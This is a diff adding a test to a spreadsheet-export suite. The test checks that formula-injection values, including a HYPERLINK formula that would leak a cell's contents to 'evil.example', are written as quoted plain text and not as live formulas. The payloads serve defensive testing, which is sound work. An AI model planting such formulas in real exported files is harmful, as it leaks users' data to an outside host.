@@ -138,4 +138,17 @@ describe('ledger export (台账 xlsx)', () => {
       rmSync(dir, { recursive: true, force: true });
     }
   }, 150_000);
+
+  it('writes text a spreadsheet would run as a formula as plain text (leading quote)', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
+    const [, , t3] = taskIds;
+    await t.db.query(`UPDATE reform_item SET name = $2 WHERE id = (SELECT reform_item_id FROM task WHERE id = $1)`, [t3, formula]);
+    await t.db.query(`UPDATE task SET outcome = '+1+1', scope_text = '@SUM(A1)' WHERE id = $1`, [t3]);
+    const sheet = await sheetOf((await download()).body);
+    const row = [...Array(sheet.rowCount).keys()].map((i) => sheet.getRow(i + 1)).find((r) => String(r.getCell(2).value).includes('HYPERLINK'))!;
+    expect(row.getCell(2).value).toBe(`'${formula}`);
+    expect(row.getCell(6).value).toBe(`'@SUM(A1)`);
+    expect(row.getCell(8).value).toBe(`'+1+1`);
+    expect(row.getCell(2).formula).toBeUndefined();
+  });
 });
